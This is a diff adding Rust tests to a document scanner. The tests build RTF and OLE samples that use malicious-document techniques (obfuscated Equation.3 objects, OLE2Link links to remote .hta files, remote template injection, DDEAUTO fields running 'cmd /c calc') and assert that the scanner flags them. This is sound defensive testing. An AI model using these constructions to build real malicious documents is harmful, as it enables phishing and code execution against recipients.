@@ -512,3 +512,248 @@ fn a_document_is_one_however_the_names_of_its_parts_are_written() {
     ]);
     assert_eq!(refused("a.docx", &octets), [OBJECT]);
 }
+
+/// An object as OLE 1.0 has it.
+fn ole1(class: &str, data: &[u8]) -> Vec<u8> {
+    let length = |octets: &[u8]| u32::try_from(octets.len()).unwrap().to_le_bytes();
+    let class = format!("{class}\0");
+    [
+        &[1, 5, 0, 0, 2, 0, 0, 0],
+        &length(class.as_bytes())[..],
+        class.as_bytes(),
+        &[0; 8],
+        &length(data),
+        data,
+    ]
+    .concat()
+}
+
+fn hex(octets: &[u8]) -> String {
+    let digits: Vec<String> = octets.iter().map(|octet| format!("{octet:02x}")).collect();
+    digits.concat()
+}
+
+/// A rich text with an object of these digits.
+fn object(digits: &str) -> Vec<u8> {
+    format!("{{\\rtf1 Hello{{\\object\\objemb\\objupdate{{\\*\\objclass Word.Document.8}}{{\\*\\objdata {digits}}}}}}}").into_bytes()
+}
+
+#[test]
+fn an_object_in_rich_text_is_found_however_its_digits_are_hidden() {
+    let digits = hex(&ole1("Equation.3", &[0x1c, 0, 0, 0, 7, 7]));
+    let (first, rest) = digits.split_at(21);
+    let parted = |by: &str| object(&format!("{first}{by}{rest}"));
+    let upper = digits.to_ascii_uppercase();
+    let spread: Vec<String> = digits
+        .chars()
+        .map(|digit| format!("{digit}\r\n\t "))
+        .collect();
+    let words: Vec<String> = digits
+        .chars()
+        .map(|digit| format!("\\par {digit}"))
+        .collect();
+    // Nothing that programs read differently: it is known for what it is.
+    for octets in [
+        object(&digits),
+        object(&upper),
+        object(&spread.concat()),
+        object(&words.concat()),
+        object(&format!("{digits}0")),
+        parted("{\\*\\nothing12 }"),
+        parted("{{}{\\b}}"),
+        parted("\\ggzz\\{\\}zz"),
+        [b"\r\n \t".as_slice(), &object(&digits)].concat(),
+        String::from_utf8(object(&digits))
+            .unwrap()
+            .replace("{\\rtf1", "{\\rt")
+            .into_bytes(),
+        String::from_utf8(object(&digits))
+            .unwrap()
+            .replace("{\\*\\objdata", "{\\objdata")
+            .into_bytes(),
+        String::from_utf8(object(&digits))
+            .unwrap()
+            .trim_end_matches('}')
+            .as_bytes()
+            .to_vec(),
+    ] {
+        let rules = refusing("a.doc", BINARY, &octets, Level::Default);
+        assert_eq!(
+            rules,
+            ["rtf-object"],
+            "{}",
+            String::from_utf8_lossy(&octets)
+        );
+    }
+    let raw = String::from_utf8(ole1("Equation.3", &[7; 8])).unwrap();
+    let length = raw.len();
+    assert_eq!(
+        refusing(
+            "a.doc",
+            BINARY,
+            &object(&format!("\\bin{length} {raw}")),
+            Level::Default
+        ),
+        ["rtf-object"]
+    );
+    // What some count and others do not: they find different objects, and whether one of them is known matters no more.
+    let long = format!("\\{}", "abcdef".repeat(60));
+    for by in [
+        "{\\*\\nothing 0102}",
+        "{\\*\\objdata 0102}",
+        "{\\info{\\author 05}}",
+        "\\'41",
+        "\\'4",
+        "\\'",
+        "\\u65 41",
+        "\\uc4\\u-65500 abcd",
+        "\\bin2 ab",
+        "\\bin0041",
+        "\\bin00000000000000000002 ab",
+        "\\par000000000000000000000000000000041",
+        long.as_str(),
+    ] {
+        let rules = refusing("a.doc", BINARY, &parted(by), Level::Default);
+        assert!(
+            rules.contains(&"archive-ambiguous".to_owned()) || rules == ["rtf-object"],
+            "{by}: {rules:?}"
+        );
+    }
+    let rules = refusing(
+        "a.doc",
+        BINARY,
+        &String::from_utf8(object(&digits))
+            .unwrap()
+            .replace("objdata ", "objdata")
+            .into_bytes(),
+        Level::Default,
+    );
+    assert!(!rules.is_empty());
+    assert!(
+        refusing(
+            "a.rtf",
+            BINARY,
+            &object(&hex(&ole1("Equation.DSMT4", &[7; 8]))),
+            Level::Default
+        )
+        .is_empty()
+    );
+}
+
+#[test]
+fn an_object_is_known_by_its_class_whatever_it_is_called() {
+    let class = b"\x02\xce\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46";
+    let mut file = build::compound(&[("\u{1}oLE10nATivE", b"\x07\0\0\0abc")]);
+    let root = file
+        .windows(8)
+        .position(|octets| octets == b"R\0o\0o\0t\0")
+        .unwrap();
+    file[root + 80..root + 96].copy_from_slice(class);
+    let rules = refusing(
+        "a.rtf",
+        BINARY,
+        &object(&hex(&ole1("Word.Document.8", &file))),
+        Level::Default,
+    );
+    assert_eq!(rules, ["rtf-object"]);
+    // The packager's stream by another spelling of its name.
+    let package = build::package("a.txt", &build::program());
+    let native = [
+        &u32::try_from(package.len()).unwrap().to_le_bytes(),
+        package.as_slice(),
+    ]
+    .concat();
+    let file = build::compound(&[("\u{1}OLe10NAtive", &native)]);
+    let rules = refusing("a.doc", BINARY, &file, Level::Default);
+    assert!(rules.contains(&"executable".to_owned()), "{rules:?}");
+}
+
+#[test]
+fn an_object_linked_from_the_web_is_refused() {
+    let address = |link: &str| {
+        let link: Vec<u8> = link
+            .encode_utf16()
+            .chain([0])
+            .flat_map(u16::to_le_bytes)
+            .collect();
+        let class = b"\xe0\xc9\xea\x79\xf9\xba\xce\x11\x8c\x82\0\xaa\0\x4b\xa9\x0b";
+        [
+            b"\x01\0\0\x02\x09\0\0\0".as_slice(),
+            &[0; 16],
+            class,
+            &u32::try_from(link.len()).unwrap().to_le_bytes(),
+            &link,
+        ]
+        .concat()
+    };
+    let script = [
+        [0; 24].as_slice(),
+        b"\xc6\xaf\xab\xec\x19\x7f\xd2\x11\x97\x8e\0\0\xf8\x75\x7e\x2a",
+    ]
+    .concat();
+    let check = |stream: &[u8], rules: &[&str]| {
+        let file = build::compound(&[("\u{1}Ole", stream), ("\u{3}ObjInfo", b"abc")]);
+        assert_eq!(refusing("a.doc", BINARY, &file, Level::Default), rules);
+        let text = object(&hex(&ole1("OLE2Link", &file)));
+        assert_eq!(refusing("a.rtf", BINARY, &text, Level::Default), rules);
+    };
+    check(&address("HTTP://a.example/b.hta"), &[OBJECT]);
+    check(&address("mhtml:http://a.example!x-usc:b"), &[OBJECT]);
+    check(&script, &[OBJECT]);
+    check(
+        &address("https://acme.sharepoint.com/sites/a/Plan.xlsx"),
+        &[],
+    );
+    check(&[1, 0, 0, 2, 0, 0, 0, 0], &[]);
+}
+
+#[test]
+fn a_template_and_a_field_of_rich_text_are_read_in_any_spelling() {
+    let rich = |text: &str| format!("{{\\rtf1\\ansi\\uc1 Hello {text}}}").into_bytes();
+    let wide = |text: &str, stand_in: &str| -> String {
+        let unit = |letter: char| i64::from(u32::from(letter)) - 65536;
+        let letters = text
+            .chars()
+            .map(|letter| format!("\\u{}{stand_in}", unit(letter)));
+        letters.collect::<Vec<_>>().concat()
+    };
+    let escaped = "http://a.example/b"
+        .bytes()
+        .map(|octet| format!("\\'{octet:02X}"));
+    let escaped = escaped.collect::<Vec<_>>().concat();
+    for template in [
+        "{\\*\\template http://a.example/b.dotm}".to_owned(),
+        "{\\*\\template\r\nHT\r\nTP://a.example/b}".to_owned(),
+        "{\\*\\template{\\b h}{\\i ttp:}{//a.example}}".to_owned(),
+        format!("{{\\*\\template {escaped}}}"),
+        format!("{{\\*\\template {}}}", wide("http://a.example", "?")),
+        format!("\\uc0{{\\*\\template {}}}", wide("http://a.example", " ")),
+        format!(
+            "\\uc3{{\\*\\template {}}}",
+            wide("http://a.example", " abc")
+        ),
+        "{\\*\\template {\\*\\a file:}\\\\\\\\a.example@SSL\\\\b}".to_owned(),
+        "{\\*\\template http://a.example".to_owned(),
+    ] {
+        assert_eq!(refused("a.rtf", &rich(&template)), [TEMPLATE], "{template}");
+    }
+    for field in [
+        "{\\field{\\*\\fldinst DDEAUTO c:\\\\a\\\\b}{\\fldrslt}}".to_owned(),
+        "{\\field{\\*\\fldinst {\\b D}{\\rtlch dea}{UTO}{\\*\\datafield 00} a}}".to_owned(),
+        "{\\field{\\*\\fldinst \\'44\\'44\\'45 cmd \"/c calc\"}}".to_owned(),
+        format!("{{\\field{{\\*\\fldinst {} a}}}}", wide("DDEAUTO", "?")),
+        "{\\field{\\*\\fldinst IF 1 = {\\field{\\*\\fldinst DDEAUTO a}{\\fldrslt x}}}}".to_owned(),
+        "{\\field{\\*\\fldinst DDE {\\field{\\*\\fldinst REF a}}}}".to_owned(),
+        "{\\field{\\fldinst {\\*\\a XE \"}DDEAUTO a}}".to_owned(),
+        "{\\field{\\*\\fldinst DDEAUTO a".to_owned(),
+    ] {
+        assert_eq!(refused("a.rtf", &rich(&field)), [DDE], "{field}");
+    }
+    for honest in [
+        "{\\*\\template C:\\\\Vorlagen\\\\Brief.dotx}{\\*\\templates http://example.org}",
+        "{\\field{\\*\\fldinst HYPERLINK \"http://example.org\"}{\\fldrslt DDEAUTO cmd}}",
+        "{\\field{\\*\\fldinst DDE Excel \"C:\\\\a.xls\" R1C1}}{\\field{\\*\\fldinst XE \"DDEAUTO\"}}",
+    ] {
+        assert!(refused("a.rtf", &rich(honest)).is_empty(), "{honest}");
+    }
+}
